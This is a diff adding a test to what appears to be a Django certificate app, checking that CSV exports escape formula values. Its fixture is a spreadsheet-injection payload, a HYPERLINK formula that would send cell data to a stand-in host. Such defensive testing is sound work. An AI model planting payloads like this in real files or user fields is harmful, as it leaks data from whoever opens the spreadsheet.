@@ -374,3 +374,14 @@ def test_default_template_mark_moves(template):
     other = CertificateTemplate.objects.create(name="Templat lokakarya", is_default=True)
     template.refresh_from_db()
     assert not template.is_default and CertificateTemplate.objects.default() == other
+
+
+def test_export_never_hands_a_formula_to_the_officers_spreadsheet(client, officer, participant, issue):
+    formula = '=HYPERLINK("http://x.example/?"&B2,"Klik")'
+    participant.profile.full_name = formula
+    participant.profile.save()
+    issue(participant)
+    client.force_login(officer)
+    response = client.get(reverse(INDEX), {"export": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert "'" + formula in rows[1] and formula not in rows[1]
